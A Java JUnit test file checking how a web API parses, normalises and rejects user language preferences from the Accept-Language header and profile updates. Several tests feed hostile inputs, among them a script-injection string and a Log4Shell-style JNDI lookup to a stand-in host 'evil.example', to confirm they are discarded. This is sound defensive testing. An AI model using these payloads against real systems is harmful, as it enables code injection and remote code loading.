package dev.latchkey.adapter.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.latchkey.domain.kernel.Language;
import dev.latchkey.domain.notification.Recipient;
import dev.latchkey.domain.user.EmailAddress;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which language requests bring along, and which users choose. */
class LanguageRoutesTest {
  private static final String PROFILE = "/api/v1/users/profile";
  private static final String ADA = "ada@example.com";

  @AutoClose private final TestServer server = TestServer.start();

  @Test
  void who_signs_up_is_written_to_in_the_language_that_he_asked_for() {
    var born = signUp("de-AT, de;q=0.8");

    assertThat(born.status()).isEqualTo(201);
    assertThat(born.json().path("user").path("language").asText()).isEqualTo("de-AT");
    assertThat(server.notifier.sent())
        .extracting(sending -> sending.to())
        .containsOnly(reads("de-AT"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "de;q=x",
        ",,;;,,",
        "<script>alert(1)</script>",
        "de-x-come-to-evil-example",
        "*;q=0.0001",
        "\"de\"",
        "${jndi:ldap://evil.example}"
      })
  void a_hostile_header_is_nobodys_fault_and_is_not_kept(String header) {
    var born = signUp(header);

    assertThat(born.status()).isEqualTo(201);
    assertThat(born.body()).doesNotContain("evil", "script", "jndi");
    var language = born.json().path("user").path("language");
    assertThat(language.isNull() || language.asText().equals("de")).isTrue();
  }

  @Test
  void a_huge_header_changes_nothing() {
    var born = signUp("de,".repeat(1500) + "de");

    assertThat(born.status()).isEqualTo(201);
    assertThat(born.json().path("user").path("language").isNull()).isTrue();
  }

  @Test
  void the_profile_shows_the_language_and_changes_it() {
    var client = server.client().bearer(signUp("de").text("access_token"));
    assertThat(client.get(PROFILE).text("language")).isEqualTo("de");

    var changed = client.put(PROFILE, "{\"name\":\"Ada\",\"language\":\"PT-br\"}");

    assertThat(changed.status()).isEqualTo(200);
    assertThat(changed.text("language")).isEqualTo("pt-BR");
    assertThat(client.get("/api/v1/auth/me").body()).contains("\"language\":\"pt-BR\"");
  }

  @ParameterizedTest
  @ValueSource(strings = {"{\"name\":\"Ada\"}", "{\"name\":\"Ada\",\"language\":null}"})
  void a_profile_without_a_language_takes_it_away(String profile) {
    var client = server.client().bearer(signUp("de").text("access_token"));

    assertThat(client.put(PROFILE, profile).json().path("language").isNull()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " ", "german", "de_DE", "de-x-evil", "<b>", "\\u202ede"})
  void nonsense_is_told_by_its_field_and_changes_nothing(String nonsense) {
    var client = server.client().bearer(signUp("de").text("access_token"));

    var refused = client.put(PROFILE, "{\"name\":\"Ada\",\"language\":\"%s\"}".formatted(nonsense));

    assertThat(refused.status()).isEqualTo(422);
    assertThat(refused.text("code")).isEqualTo("invalid_fields");
    assertThat(refused.json().path("errors").findValuesAsText("field")).containsExactly("language");
    assertThat(client.get(PROFILE).text("language")).isEqualTo("de");
  }

  @Test
  void the_language_of_a_later_request_is_not_that_of_the_user() {
    signUp("de");
    var stranger = server.client().with("Accept-Language", "fr");
    stranger.post("/api/v1/auth/password-reset", "{\"email\":\"" + ADA + "\"}");
    stranger.post("/api/v1/auth/password-reset", "{\"email\":\"nobody@example.com\"}");
    stranger.post(
        "/api/v1/auth/register",
        "{\"email\":\"%s\",\"password\":\"%s\"}".formatted(ADA, TestServer.PASSWORD));

    server.storage.deliverAll();

    assertThat(server.notifier.sent())
        .extracting(sending -> sending.to())
        .containsOnly(
            reads("de"), new Recipient(EmailAddress.of("nobody@example.com"), new Language("fr")));
    assertThat(server.notifier.sentTo(EmailAddress.of(ADA))).hasSizeGreaterThanOrEqualTo(4);
  }

  private static Recipient reads(String tag) {
    return new Recipient(EmailAddress.of(ADA), new Language(tag));
  }

  private Answer signUp(String asked) {
    var registration =
        server
            .client()
            .with("Accept-Language", asked)
            .post(
                "/api/v1/auth/register",
                "{\"email\":\"%s\",\"password\":\"%s\"}".formatted(ADA, TestServer.PASSWORD));
    assertThat(registration.status()).isEqualTo(202);
    var born = server.verify(registration.text("registration_id"), server.codeFor(ADA));
    server.storage.deliverAll();
    return born;
  }
}
